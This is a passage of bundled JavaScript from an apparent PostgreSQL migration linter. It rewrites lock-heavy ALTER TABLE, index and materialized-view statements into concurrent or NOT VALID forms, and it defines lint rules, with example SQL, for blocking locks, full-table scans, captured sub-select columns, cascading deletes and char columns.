	if (moved.some(({ constraint }) => constraint.contype === "CONSTR_DEFAULT") && kinds.has("CONSTR_NOTNULL")) return false;
	return !refused.some((kind) => kinds.has(kind));
}
const refused = [
	"CONSTR_PRIMARY",
	"CONSTR_IDENTITY",
	"CONSTR_GENERATED",
	"CONSTR_EXCLUSION",
	"CONSTR_ATTR_NOT_ENFORCED"
];
function isMoved({ contype, raw_expr: value }) {
	if (contype === "CONSTR_DEFAULT") return value !== void 0 && mayBeVolatile(value);
	return contype === "CONSTR_CHECK" || contype === "CONSTR_FOREIGN" || contype === "CONSTR_UNIQUE";
}
/** The constraints of the column in their order, each with the attributes that follow it. */
function qualifiersOf(column, command) {
	const constraints = nodesAs(column.constraints, "Constraint").map((constraint) => ({
		constraint,
		start: indexAt(constraint.location ?? 0, command)
	}));
	const starts = [...constraints.filter(({ constraint }) => constraint.contype?.startsWith("CONSTR_ATTR") !== true).map(({ start }) => start), ...column.collClause === void 0 ? [] : [indexAt(column.collClause.location ?? 0, command)]];
	return constraints.map(({ constraint, start }) => {
		const end = Math.min(...starts.filter((other) => other > start), Number.POSITIVE_INFINITY);
		const words = command.words.filter((word) => word.start >= start && word.start < end);
		return {
			constraint,
			words: words[0]?.start === start ? words : []
		};
	});
}
/** The parser counts the bytes of the file. */
function indexAt(offset, { statement }) {
	const bytes = new TextEncoder().encode(statement.text);
	return new TextDecoder().decode(bytes.subarray(0, offset - statement.place.offset)).length;
}
function columnWords({ words }) {
	const at = words[1]?.text === "column" ? 2 : 1;
	return words.slice(at, at + 1);
}
/** The action without the words of these qualifiers. */
function without(command, moved) {
	const gone = new Set(moved.flatMap(({ words }) => words));
	const runs = [[]];
	for (const word of command.words) if (!gone.has(word)) runs.at(-1)?.push(word);
	else if (runs.at(-1)?.length !== 0) runs.push([]);
	return runs.filter((run) => run.length > 0).map((run) => textOf(command, run)).join(" ");
}
/** What follows the column in place of the qualifier. */
function after({ constraint, words }, column, { command, table }) {
	const rest = bodyOf(constraint, words);
	const body = textOf(command, rest);
	switch (constraint.contype) {
		case "CONSTR_DEFAULT": return [action(`alter column ${column.written} set default ${textOf(command, rest.slice(1))}`)];
		case "CONSTR_CHECK": return unvalidated({
			constraint,
			body,
			columns: checkedColumns(constraint, table)
		}, table);
		case "CONSTR_FOREIGN": return unvalidated({
			constraint,
			body: `foreign key (${column.written}) ${body}`,
			columns: [column.name]
		}, table);
		default: return hasAttributes(words, rest) ? void 0 : addedKey({
			constraint,
			words: rest,
			command,
			column
		}, table);
	}
}
/** A key that is written on a column says in words of its own when it is checked. */
function hasAttributes(words, rest) {
	const said = new Set(rest.map(({ text }) => text));
	return words.length === 0 || said.has("deferrable") || said.has("initially");
}
/** ADD CONSTRAINT: without the scan first, validated later. */
function addedConstraint(command, table) {
	const constraint = nodeAs(command.node.def, "Constraint");
	if (constraint === void 0) return void 0;
	const { words } = command;
	const isChecked = constraint.skip_validation !== true && constraint.is_enforced !== false;
	switch (constraint.contype) {
		case "CONSTR_CHECK":
		case "CONSTR_FOREIGN":
		case "CONSTR_NOTNULL":
			if (!isChecked) return [action(textOf(command, words))];
			return unvalidated({
				constraint,
				body: textOf(command, bodyOf(constraint, words.slice(1))),
				columns: columnsOf$1(constraint, table)
			}, table);
		case "CONSTR_UNIQUE":
		case "CONSTR_PRIMARY":
			if (constraint.indexname !== void 0) return [action(textOf(command, words))];
			return addedKey({
				constraint,
				words: bodyOf(constraint, words.slice(1)),
				command
			}, table);
		default: return;
	}
}
function columnsOf$1(constraint, table) {
	if (constraint.contype === "CONSTR_FOREIGN") return namesOf(constraint.fk_attrs);
	if (constraint.contype === "CONSTR_NOTNULL") return namesOf(constraint.keys);
	return checkedColumns(constraint, table);
}
/**
* The order in which PostgreSQL does the actions of one ALTER TABLE, as far as they are taken apart here.
* Actions that are written in another order would do something else one after the other.
*/
const passes = {
	AT_DropColumn: 0,
	AT_DropConstraint: 0,
	AT_DropNotNull: 0,
	AT_AddColumn: 1,
	AT_ColumnDefault: 2,
	AT_SetNotNull: 2,
	AT_AddConstraint: 3,
	AT_ValidateConstraint: 4
};
const alterTable = (statement, around) => {
	const read = readAlterTable(statement, around);
	if (read === void 0) return void 0;
	const [first] = read.commands;
	return first?.node.subtype === "AT_AttachPartition" ? attachedPartition(first, read.table) : takenApart(read);
};
function takenApart({ table, commands }) {
	if (!isInOrder(commands)) return void 0;
	if (commands.length > 1 && commands.some((command) => refersToItself(command, table))) return void 0;
	const pieces = commands.map((command) => piecesOf(command, table));
	const all = pieces.flatMap((some) => some ?? []);
	const isCertain = pieces.every((some) => some !== void 0) && !namesTwice(all);
	const isSplit = all.some(({ kind }) => kind !== "action") || all.length > commands.length;
	if (!isCertain || !isSplit) return void 0;
	return {
		steps: stepsOf(table.head, all),
		note: noteOf(all)
	};
}
function isInOrder(commands) {
	const ranks = commands.map(({ node }) => passes[node.subtype ?? "AT_AddColumn"]);
	return ranks.every((rank, index) => {
		const before = index === 0 ? 0 : ranks[index - 1];
		return rank !== void 0 && before !== void 0 && rank >= before;
	});
}
/** A key of the same statement would have to be there before the constraint that refers to it. */
function refersToItself({ node }, { relation }) {
	return someNode(node.def, (inner) => nodeAs(inner, "Constraint")?.pktable?.relname === relation.relname);
}
/** The parts of one action; undefined where it has no safer form and is not safe itself. */
function piecesOf(command, table) {
	switch (command.node.subtype ?? "AT_AddColumn") {
		case "AT_AddColumn": return addedColumn(command, table);
		case "AT_AddConstraint": return addedConstraint(command, table);
		case "AT_SetNotNull": return requiredColumn$1(command, table);
		case "AT_ValidateConstraint": return [later("validate", textOf(command, command.words))];
		default: return [action(textOf(command, command.words))];
	}
}
/** Two constraints without a name would have got two names. */
function namesTwice(pieces) {
	const names = pieces.flatMap((piece) => piece.kind === "action" ? writtenName$1(piece) : []);
	return new Set(names).size !== names.length;
}
function noteOf(pieces) {
	return `${[
		"Each transaction is a file of its own",
		...pieces.some(({ kind }) => kind === "step") ? ["an index that is built concurrently needs a file without a transaction"] : [],
		...pieces.some((piece) => piece.kind === "action" && / set default /.test(piece.action)) ? ["the rows that are there already stay empty until they are filled in batches"] : []
	].join("; ")}.`;
}
const ownFile = "Put it alone into a file that runs without a transaction.";
/** DROP INDEX CONCURRENTLY takes one index at a time and nothing that depends on it. */
const dropIndex = (statement, around) => {
	const node = nodeAs(statement.node, "DropStmt");
	if (node === void 0 || !isDroppedAlone(node, around)) return void 0;
	const words = wordsOf$2(statement.text);
	const head = node.missing_ok === true ? words.slice(0, 4) : words.slice(0, 2);
	const rest = words.slice(head.length).filter(({ text }) => text !== "restrict");
	const exists = node.missing_ok === true ? " if exists" : "";
	const names = commaParts(rest).map((name) => written(statement.text, name));
	if (names.length !== node.objects?.length) return void 0;
	return {
		steps: names.map((name) => alone(`drop index concurrently${exists} ${name}`)),
		note: `${ownFile} An index behind a constraint is dropped with the constraint.`
	};
};
function isDroppedAlone(node, around) {
	if (node.removeType !== "OBJECT_INDEX" || node.concurrent === true) return false;
	if (node.behavior === "DROP_CASCADE") return false;
	return !(node.objects ?? []).some((name) => isOnPartitions(namesAt(name), around));
}
function namesAt(name) {
	return namesOf(nodeAs(name, "List")?.items);
}
/** The index of a partitioned table, or a part of one, is dropped as a whole or not at all. */
function isOnPartitions(names, { catalog }) {
	const [name, schema] = names.toReversed();
	return (catalog.facts?.relations ?? []).some((relation) => (relation.kind === "partitioned-table" || relation.isPartition) && (schema === void 0 || schema === relation.schema) && relation.indexes.some((index) => index.name === name));
}
const reindex = (statement) => {
	const node = nodeAs(statement.node, "ReindexStmt");
	if (node === void 0 || isOptionOn(node.params, "concurrently")) return void 0;
	if (node.kind === "REINDEX_OBJECT_SYSTEM") return void 0;
	const kind = wordsOf$2(statement.text).find(({ depth, text }) => depth === 0 && reindexed.has(text));
	const sql = kind === void 0 ? void 0 : concurrentlyAfter(statement, kind);
	return sql === void 0 ? void 0 : {
		steps: [alone(sql)],
		note: ownFile
	};
};
const reindexed = /* @__PURE__ */ new Set([
	"index",
	"table",
	"schema",
	"database"
]);
const refresh = (statement, around) => {
	const node = nodeAs(statement.node, "RefreshMatViewStmt");
	if (node === void 0 || node.concurrent === true || node.skipData === true) return void 0;
	if (lacksKey(node.relation, around)) return void 0;
	const view = wordsOf$2(statement.text)[2];
	const sql = view?.text === "view" ? concurrentlyAfter(statement, view) : void 0;
	return sql === void 0 ? void 0 : {
		steps: [{
			sql,
			transaction: "own"
		}],
		note: "It needs a unique index over all rows of the view, and a view that has been filled before."
	};
};
/** By facts that know the view, and of which the change has not altered anything. */
function lacksKey(view, around) {
	const known = view && knownTable(view, around);
	if (known === void 0 || known.changed || around.catalog.facts?.stale === true) return false;
	return !known.facts.indexes.some(({ unique, valid, partial, columns }) => unique && valid && !partial && columns !== void 0 && columns.length > 0);
}
/** The statement with CONCURRENTLY after one of its words. */
function concurrentlyAfter({ text }, { end }) {
	const words = wordsOf$2(text);
	const upTo = words.filter((word) => word.end <= end);
	const rest = words.slice(upTo.length);
	return `${written(text, upTo)} concurrently${between(text, upTo, rest)}${written(text, rest)}`;
}
function between(text, before, after) {
	const gap = text.slice(before.at(-1)?.end, after[0]?.start);
	return gap === "" ? " " : gap;
}
/** An index on a partitioned table; undefined where a partition is none that can have it. */
function partitionedIndex(wanted) {
	const plan = {
		taken: /* @__PURE__ */ new Set(),
		parents: [],
		rest: []
	};
	if (build(wanted, wanted.parent, plan) === void 0) return void 0;
	return {
		steps: [...plan.parents, ...plan.rest],
		note: "Each index is alone in a file that runs without a transaction. A partition that was added since the facts were taken has to follow."
	};
}
/** The name of the index on the relation, after every index below it could be written. */
function build(wanted, relation, plan) {
	const name = (relation === wanted.parent ? wanted.name : void 0) ?? freeName(wanted, relation, plan.taken);
	const unique = wanted.unique ? "unique " : "";
	const definition = `on ${placeOf(relation)} ${wanted.definition}`;
	if (relation.kind === "table") {
		plan.rest.push(alone(`create ${unique}index concurrently ${writeIdentifier(name)} ${definition}`));
		return name;
	}
	if (relation.kind !== "partitioned-table") return void 0;
	const only = definition.replace(/^on /, "on only ");
	plan.parents.push(own(`create ${unique}index ${writeIdentifier(name)} ${only}`));
	for (const partition of partitionsOf(wanted, relation)) {
		const index = build(wanted, partition, plan);
		if (index === void 0) return void 0;
		const attached = quoteName(partition.schema, index);
		const parent = quoteName(relation.schema, name);
		plan.rest.push(own(`alter index ${parent} attach partition ${attached}`));
	}
	return name;
}
function partitionsOf({ facts }, { schema, name }) {
	return facts.filter(({ isPartition, parents }) => isPartition && parents.some((parent) => parent.schema === schema && parent.name === name));
}
function placeOf({ schema, name }) {
	return `${writeIdentifier(schema)}.${writeIdentifier(name)}`;
}
/** PostgreSQL counts on where a relation of the schema has the name already. */
function freeName({ facts, columns }, table, taken) {
	const inSchema = facts.filter(({ schema }) => schema === table.schema);
	const names = /* @__PURE__ */ new Set([...taken, ...inSchema.flatMap(({ name, indexes }) => [name, ...indexes.map((index) => index.name)])]);
	let name = generatedName(table.name, columns, "idx");
	for (let count = 1; names.has(name); count += 1) name = generatedName(table.name, columns, `idx${count}`);
	taken.add(name);
	return name;
}
const createIndex = (statement, around) => {
	const node = nodeAs(statement.node, "IndexStmt");
	if (node === void 0 || node.concurrent === true) return void 0;
	if (isPartitioned(node.relation, around)) return onPartitions(statement, node, around);
	const word = wordsOf$2(statement.text).find(({ text }) => text === "index");
	if (word === void 0) return void 0;
	return {
		steps: [alone(concurrentlyAfter(statement, word))],
		note: "Put it alone into a file that runs without a transaction; if it fails, drop the invalid index before the next try. A partitioned table needs its partitions one by one."
	};
};
/** ON ONLY the parent, CONCURRENTLY on each partition, then ATTACH, which makes the parent's valid. */
function onPartitions(statement, node, around) {
	const { relation, idxname: name } = node;
	if (relation?.inh !== true || node.if_not_exists === true) return void 0;
	const { facts } = around.catalog;
	const parent = knownTable(relation, around);
	if (facts === void 0 || facts.stale === true) return void 0;
	if (parent === void 0 || parent.entangled) return void 0;
	const columns = indexColumns(node);
	const definition = definitionOf(statement);
	if (columns === void 0 || definition === void 0) return void 0;
	return partitionedIndex({
		facts: facts.relations,
		parent: parent.facts,
		unique: node.unique === true,
		name,
		columns,
		definition
	});
}
/** What follows the name of the table. */
function definitionOf({ text }) {
	const words = wordsOf$2(text);
	const on = words.findIndex((word) => word.text === "on");
	return on === -1 ? void 0 : written(text, words.slice(on + 1 + nameLength(words, on + 1)));
}
/** The names that PostgreSQL makes a name of; undefined where an expression gives them another way. */
function indexColumns(node) {
	const elements = [...nodesAs(node.indexParams, "IndexElem"), ...nodesAs(node.indexIncludingParams, "IndexElem")];
	const names = elements.flatMap((element) => columnName(element) ?? []);
	return names.length === elements.length && new Set(names).size === names.length ? names : void 0;
}
function columnName({ name, expr }) {
	return name ?? namesOf(nodeAs(expr, "FuncCall")?.funcname).at(-1);
}
/** Which form is for which statement. */
const forms = {
	AlterTableStmt: alterTable,
	DropStmt: dropIndex,
	IndexStmt: createIndex,
	RefreshMatViewStmt: refresh,
	ReindexStmt: reindex
};
/**
* The same in a safer form: what reaches the same schema as the statement without a long lock. Whatever
* does not follow from the text and the facts for certain has none.
*/
const saferForm = (statement, around) => {
	if (/\bu&"/i.test(statement.text)) return void 0;
	const rewrite = forms[statement.tag]?.(statement, around);
	return rewrite?.steps.every(({ sql }) => isReadable(sql)) === true ? rewrite : void 0;
};
/** A name with a line break or something invisible in it could look like another step, or another name. */
function isReadable(sql) {
	return !wordsOf$2(sql).filter(({ text }) => text.startsWith("\"")).some(({ text }) => /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u.test(text));
}
const blockingLock = defineRule({
	id: "blocking-lock",
	axis: "lock",
	title: "A table is locked for its own sake",
	why: "Whoever reads or writes it waits until the whole transaction ends.",
	instead: "Leave the locking to the statements that need it, or refresh CONCURRENTLY.",
	invalid: [{
		sql: "lock table users",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on table users until the end."
	}, {
		sql: "refresh materialized view totals",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on materialized view totals until the end."
	}],
	valid: [
		"refresh materialized view concurrently totals",
		"lock table users in row exclusive mode",
		"alter table users add column note text",
		"create table drafts (id bigint); lock table drafts"
	],
	rewrite: saferForm,
	check: ({ effects }) => {
		const otherwise = new Set(effects.filter(isOtherwise).map(statementOf$1));
		return ofKind(effects, "locks").filter(({ mode }) => lockModes.indexOf(mode) >= lockModes.indexOf("SHARE")).filter((lock) => lock.source === "static" && !lock.object.createdHere).filter((lock) => !otherwise.has(statementOf$1(lock)) && !isReadOnly(lock)).map((effect) => ({
			effect,
			level: "medium",
			message: `Holds ${effect.mode} on ${objectName(effect.object)} until the end.`
		}));
	}
});
/** EXCLUSIVE lets readers in, and nobody else writes to a materialized view. */
function isReadOnly({ mode, object }) {
	return object.kind === "materialized-view" && mode === "EXCLUSIVE";
}
/** The same statement does something else, which has its own rules. */
function isOtherwise(effect) {
	return effect.kind !== "locks" && effect.source === "static";
}
/** The declarations of one kind in the statements of all scripts; those inside of bodies are left out. */
function declarationsOf(scripts, kind) {
	return scripts.flatMap((script) => declaredIn(script).filter((one) => isOfKind(one, kind)));
}
function isOfKind(declared, kind) {
	return declared.kind === kind;
}
/** Many rules ask about the same script. */
const known = /* @__PURE__ */ new WeakMap();
function declaredIn(script) {
	const found = known.get(script) ?? readDeclarations(script);
	known.set(script, found);
	return found;
}
function readDeclarations({ unitId, statements }) {
	return statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : declare(statement).map((declaration) => ({
		...declaration,
		unitId,
		statement: index,
		source: "static"
	})));
}
function declare({ node }) {
	const created = nodeAs(node, "CreateStmt");
	if (created !== void 0) return newTable(created);
	const altered = nodeAs(node, "AlterTableStmt");
	if (altered !== void 0) {
		const table = tableName(altered.relation);
		return nodesAs(altered.cmds, "AlterTableCmd").flatMap((command) => command.subtype === "AT_AttachPartition" ? attachment(command, altered.relation) : alteration(command, table));
	}
	const value = nodeAs(node, "AlterEnumStmt");
	if (value?.newVal !== void 0 && value.oldVal === void 0) return [{
		kind: "enum-value",
		type: namesOf(value.typeName).join("."),
		value: value.newVal
	}];
	const comment = nodeAs(node, "CommentStmt");
	if (comment?.objtype !== "OBJECT_TABLE") return [];
	return [{
		kind: "table-comment",
		table: namesOf(nodeAs(comment.object, "List")?.items).join(".")
	}];
}
function newTable(created) {
	const table = tableName(created.relation);
	const columns = nodesAs(created.tableElts, "ColumnDef");
	const constraints = nodesAs(created.tableElts, "Constraint");
	const keys = constraints.filter(({ contype }) => contype === "CONSTR_PRIMARY").flatMap(({ keys }) => namesOf(keys));
	return [
		{
			kind: "table",
			table,
			hasPrimaryKey: keys.length > 0 || columns.some((column) => hasConstraint(column, "CONSTR_PRIMARY")) || constraints.some(({ contype }) => contype === "CONSTR_PRIMARY"),
			derived: (created.inhRelations ?? []).length > 0 || created.ofTypename !== void 0 || nodesAs(created.tableElts, "TableLikeClause").length > 0,
			temporary: created.relation?.relpersistence === "t"
		},
		...columns.flatMap((column) => newColumn(column, {
			table,
			added: false,
			keys
		})),
		...constraints.flatMap((constraint) => newConstraint(constraint, table, false))
	];
}
function alteration(command, table) {
	const column = command.name ?? "";
	switch (command.subtype) {
		case "AT_AddColumn": {
			const definition = nodeAs(command.def, "ColumnDef");
			return definition === void 0 ? [] : newColumn(definition, {
				table,
				added: true,
				keys: []
			});
		}
		case "AT_AddConstraint": {
			const constraint = nodeAs(command.def, "Constraint");
			return constraint === void 0 ? [] : newConstraint(constraint, table, true);
		}
		case "AT_ColumnDefault": return command.def === void 0 ? [{
			kind: "default-dropped",
			table,
			column
		}] : [];
		default: return [];
	}
}
function attachment({ def }, { schemaname: schema, relname: name = "" } = {}) {
	const definition = nodeAs(def, "PartitionCmd");
	const bounds = boundsOf(definition?.bound);
	if (bounds === void 0) return [];
	const parent = schema === void 0 ? { name } : {
		schema,
		name
	};
	return [{
		kind: "attached-partition",
		table: tableName(definition?.name),
		parent,
		bounds
	}];
}
const serials = /* @__PURE__ */ new Set([
	"serial",
	"serial2",
	"serial4",
	"serial8",
	"smallserial",
	"bigserial"
]);
function newColumn(definition, where) {
	const { table, added, keys } = where;
	const column = definition.colname ?? "";
	const type = namesOf(definition.typeName?.names).at(-1) ?? "";
	const isKey = keys.includes(column) || hasConstraint(definition, "CONSTR_PRIMARY");
	const constraints = nodesAs(definition.constraints, "Constraint");
	return [{
		kind: "column",
		table,
		column,
		type,
		hasLength: (definition.typeName?.typmods ?? []).length > 0,
		added,
		isKey,
		notNull: isKey || hasConstraint(definition, "CONSTR_NOTNULL"),
		filled: serials.has(type) || constraints.some(fills)
	}, ...constraints.flatMap((constraint) => newConstraint(constraint, table, added))];
}
function fills({ contype, raw_expr }) {
	if (contype === "CONSTR_DEFAULT") return nodeAs(raw_expr, "A_Const")?.isnull !== true;
	return contype === "CONSTR_IDENTITY" || contype === "CONSTR_GENERATED";
}
function hasConstraint(column, wanted) {
	return nodesAs(column.constraints, "Constraint").some(({ contype }) => contype === wanted);
}
/** pg_constraint.confdeltype, as the grammar writes it. */
const deletions = {
	c: "cascade",
	n: "set null",
	d: "set default"
};
function newConstraint(constraint, table, added) {
	if (constraint.contype === "CONSTR_FOREIGN") {
		const action = constraint.fk_del_action;
		const onDelete = action === "c" || action === "n" || action === "d" ? deletions[action] : "keeps";
		return [{
			kind: "foreign-key",
			table,
			references: tableName(constraint.pktable),
			onDelete,
			added
		}];
	}
	const { contype, conname, raw_expr: expression } = constraint;
	if (contype !== "CONSTR_CHECK" || conname === void 0) return [];
	const column = provenColumn(constraint);
	if (column !== void 0) return [{
		kind: "not-null-check",
		table,
		constraint: conname,
		column
	}];
	const checked = checkedBounds(expression);
	if (checked === void 0) return [];
	return [{
		kind: "bounds-check",
		table,
		constraint: conname,
		...checked
	}];
}
function provenColumn({ raw_expr }) {
	const test = nodeAs(raw_expr, "NullTest");
	if (test?.nulltesttype !== "IS_NOT_NULL") return void 0;
	const names = namesOf(nodeAs(test.arg, "ColumnRef")?.fields);
	return names.length === 1 ? names[0] : void 0;
}
function tableName(relation) {
	return [relation?.schemaname, relation?.relname].filter((part) => part !== void 0).join(".");
}
/**
* The ATTACH PARTITIONs that read nothing, because an earlier statement validated a CHECK that says the
* same as the bounds, and no default partition could hold such rows. The facts say which column decides.
*/
function provenAttachments({ effects, scripts, catalog }) {
	const attached = declarationsOf(scripts, "attached-partition");
	const checks = declarationsOf(scripts, "bounds-check");
	if (attached.length === 0 || checks.length === 0) return [];
	return followProofs(effects, {
		claims: new Map(checks.map((check) => [`${statementOf(check)} ${check.table} ${check.constraint}`, claimOf(check.table, check.column, check.bounds)])),
		wanted: new Map(attached.flatMap((one) => {
			const parent = knownRelation(catalog, one.parent)?.facts;
			const column = decidingColumn(parent, one.bounds, catalog);
			return column === void 0 ? [] : [[statementOf(one), claimOf(one.table, column, one.bounds)]];
		}))
	});
}
function claimOf(table, column, bounds) {
	return JSON.stringify([
		table,
		column,
		bounds
	]);
}
/** Walks through what is altered: added, then validated, then relied on. */
function followProofs(effects, { claims, wanted }) {
	const checked = /* @__PURE__ */ new Map();
	const proven = /* @__PURE__ */ new Set();
	return effects.filter((effect) => effect.kind === "alters").filter((effect) => {
		const constraint = constraintOf(effect);
		const claim = claims.get(`${statementOf(effect)} ${constraint}`);
		switch (effect.change) {
			case "add-constraint":
				if (claim !== void 0) checked.set(constraint, claim);
				return false;
			case "validate-constraint":
				proven.add(checked.get(constraint) ?? "");
				return false;
			case "attach-partition": return proven.has(wanted.get(statementOf(effect)) ?? "nothing");
			default:
				if (unsettling.has(effect.change)) {
					checked.clear();
					proven.clear();
				}
				return false;
		}
	});
}
/** After these a name may mean another table, or a proof may be gone. */
const unsettling = /* @__PURE__ */ new Set([
	"drop-constraint",
	"rename",
	"set-schema"
]);
function constraintOf({ object: { schema, name, part = "" } }) {
	return `${schema === void 0 ? name : `${schema}.${name}`} ${part}`;
}
function statementOf({ unitId, statement }) {
	return `${statement} ${unitId}`;
}
const blockingScan = defineRule({
	id: "blocking-scan",
	axis: "lock",
	title: "A table is read or rewritten as a whole while it is locked",
	why: "Writers, and often readers too, wait until every row has been looked at.",
	instead: "Add the constraint NOT VALID and validate it in a later change; rewrite in batches.",
	invalid: [
		{
			sql: "alter table users add constraint positive check (age > 0)",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users alter column email set not null",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users add column token uuid default gen_random_uuid()",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		},
		{
			sql: "vacuum full users",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		},
		{
			sql: "vacuum full",
			level: "high",
			message: "Rewrites table * while nobody can read it."
		},
		{
			sql: "create table if not exists notes (id int); alter table notes add constraint positive check (id > 0)",
			level: "low",
			message: "Reads all of table notes under a lock that blocks writes, unless this change makes the table."
		}
	],
	valid: ["alter table users add constraint positive check (age > 0) not valid", "alter table users add column note text"],
	counterfactual: {
		level: "low",
		when: "it is added NOT VALID here, for NOT NULL as a CHECK, and validated in a later file",
		with: ["alter table users add constraint positive check (age > 0) not valid", "alter table users validate constraint positive"],
		only: ["medium"]
	},
	rewrite: saferForm,
	check: ({ effects, scripts, catalog }) => {
		const proven = /* @__PURE__ */ new Set([...provenStatements(effects, scripts), ...provenAttachments({
			effects,
			scripts,
			catalog
		}).map(statementOf$1)]);
		const locked = lockedTables(effects);
		const retyped = retypingStatements(effects);
		const scans = ofKind(effects, "scans").filter((effect) => !effect.object.createdHere && locked.has(tableIn$1(effect))).filter((effect) => !proven.has(statementOf$1(effect)));
		const perhapsNew = onPerhapsNew(effects);
		const [first] = scans.filter((effect) => perhapsNew.has(effect));
		const rewrites = ofKind(effects, "rewrites").filter((effect) => !effect.object.createdHere && !retyped.has(statementOf$1(effect)));
		return [
			...scans.filter((effect) => !perhapsNew.has(effect)).map((effect) => ({
				effect,
				level: "medium",
				message: `Reads all of ${objectName(effect.object)} under a lock that blocks writes.`
			})),
			...first === void 0 ? [] : [{
				effect: first,
				level: "low",
				message: `Reads all of ${objectName(first.object)} under a lock that blocks writes, unless this change makes the table.`
			}],
			...rewrites.map((effect) => ({
				effect,
				level: "high",
				message: `Rewrites ${objectName(effect.object)} while nobody can read it.`
			}))
		];
	}
});
/** The tables that a statement locks against writers. */
function lockedTables(effects) {
	const locks = ofKind(effects, "locks").filter(({ mode }) => lockModes.indexOf(mode) >= lockModes.indexOf("SHARE"));
	return new Set(locks.map(tableIn$1));
}
function tableIn$1(effect) {
	return `${statementOf$1(effect)} ${effect.object.name}`;
}
/** alter-column-type has said so already. */
function retypingStatements(effects) {
	const alters = ofKind(effects, "alters").filter(({ change }) => change === "column-type");
	return new Set(alters.map(statementOf$1));
}
/**
* SET NOT NULL reads nothing where an earlier statement validated CHECK (column IS NOT NULL). Only a
* statement whose every part is such a SET NOT NULL counts.
*/
function provenStatements(effects, scripts) {
	const declared = declarationsOf(scripts, "not-null-check");
	if (declared.length === 0) return /* @__PURE__ */ new Set();
	const columns = new Map(declared.map((check) => [`${statementOf$1(check)} ${check.table} ${check.constraint}`, `${check.table} ${check.column}`]));
	const checked = /* @__PURE__ */ new Map();
	const proven = /* @__PURE__ */ new Set();
	const certain = /* @__PURE__ */ new Set();
	const open = /* @__PURE__ */ new Set();
	for (const effect of ofKind(effects, "alters")) {
		const part = partOf(effect);
		(effect.change === "set-not-null" && proven.has(part) ? certain : open).add(statementOf$1(effect));
		const column = columns.get(`${statementOf$1(effect)} ${part}`);
		if (effect.change === "add-constraint" && column !== void 0) checked.set(part, column);
		const validated = effect.change === "validate-constraint" ? checked.get(part) : void 0;
		if (validated !== void 0) proven.add(validated);
		if (!unsettling.has(effect.change)) continue;
		checked.clear();
		proven.clear();
	}
	return new Set([...certain].filter((statement) => !open.has(statement)));
}
function partOf(effect) {
	return `${tableOf(effect)} ${effect.object.part ?? ""}`;
}
function tableOf({ object }) {
	return [object.schema, object.name].filter((part) => part !== void 0).join(".");
}
const capturedColumn = defineRule({
	id: "captured-column",
	axis: "data-loss",
	title: "A sub-select chooses rows by a column that is not its own",
	why: "PostgreSQL takes the column of the table that is written, without an error: every row compares with itself, and all of them are chosen.",
	instead: "Write the table before each column of the sub-select, and correct the column’s name.",
	invalid: [{
		sql: "create table wanted (user_id int); delete from users where id in (select id from wanted)",
		level: "critical",
		message: "Deletes rows of table users by column id, which wanted does not have: it is the column of users."
	}, {
		sql: "create table wanted (user_id int); update users set active = false where exists (select 1 from wanted where id = 7)",
		level: "critical",
		message: "Updates rows of table users by column id, which wanted does not have: it is the column of users."
	}],
	valid: ["create table wanted (user_id int); update users set active = false where id in (7, 8)"],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, captured } = effect;
		if (captured === void 0 || object.createdHere) return [];
		const does = verb === "delete" ? "Deletes" : "Updates";
		const tables = captured.tables.join(" and ");
		const lacks = captured.tables.length === 1 ? "does not have" : "do not have";
		return [{
			effect,
			level: "critical",
			message: `${does} rows of ${objectName(object)} by column ${captured.column}, which ${tables} ${lacks}: it is the column of ${object.name}.`,
			destructive: true,
			...captured.usesFacts ? { usesFacts: true } : {}
		}];
	})
});
const cascadingDelete = defineRule({
	id: "cascading-delete",
	axis: "reach",
	title: "Deleting rows of one table will change another one",
	why: "From then on a DELETE that names one table removes or empties rows of another, without a word in the statement.",
	instead: "Let the delete fail (NO ACTION), and delete what depends on a row by name.",
	invalid: [{
		sql: "alter table orders add constraint orders_users foreign key (user_id) references users (id) on delete cascade not valid",
		level: "medium",
		message: "Deleting from users will cascade to orders."
	}, {
		sql: "alter table orders add column owner_id int references users (id) on delete set null",
		level: "medium",
		message: "Deleting from users will set null in orders."
	}],
	valid: ["alter table orders add constraint orders_users foreign key (user_id) references users (id) not valid", "create table notes (user_id int references users (id) on delete cascade)"],
	counterfactual: {
		level: "low",
		when: "such a delete fails: NO ACTION",
		with: ["alter table orders add constraint orders_users foreign key (user_id) references users (id) not valid"]
	},
	check: ({ effects, scripts }) => {
		const existing = new Set(ofKind(effects, "alters").filter(({ object }) => !object.createdHere).map(statementOf$1));
		return declarationsOf(scripts, "foreign-key").filter(({ added, onDelete }) => added && onDelete !== "keeps").filter((key) => existing.has(statementOf$1(key))).map((effect) => {
			const how = effect.onDelete === "cascade" ? "cascade to" : `${effect.onDelete} in`;
			return {
				effect,
				level: "medium",
				message: `Deleting from ${effect.references} will ${how} ${effect.table}.`
			};
		});
	}
});
const charType = defineRule({
	id: "char-type",
	axis: "design",
	default: "off",
	title: "A column is padded to a fixed length",
	why: "Blanks are stored with every shorter value, and comparisons ignore some of them.",
	instead: "Use text, with a CHECK on the length where one is needed.",
	invalid: [{
		sql: "create table notes (code char(3))",
		level: "low",
		message: "Column notes.code is padded to a fixed length."
	}, {
		sql: "alter table users add column code character(3)",
		level: "low",
		message: "Column users.code is padded to a fixed length."
	}],
	valid: ["create table notes (code text)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "bpchar").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} is padded to a fixed length.`
	}))
});
const computedPredicate = defineRule({
	id: "computed-predicate",
	axis: "data-loss",
	title: "Rows are deleted by a column that the same change computed",
	why: "Where the computation goes wrong for many rows, the DELETE takes all of them, and nobody looked in between.",
	instead: "Apply the computation first, count the rows that it marked, and delete them in a change of its own.",
	invalid: [{
		sql: "update users set name = substring(email from '^(admin|member)@'); delete from users where name is null",
		level: "high",
		message: "Deletes rows of table users by column name, which this change computed."
	}, {
		sql: "alter table users add column stale boolean default true; delete from users where stale",
		level: "high",
		message: "Deletes rows of table users by column stale, which this change computed."
	}],
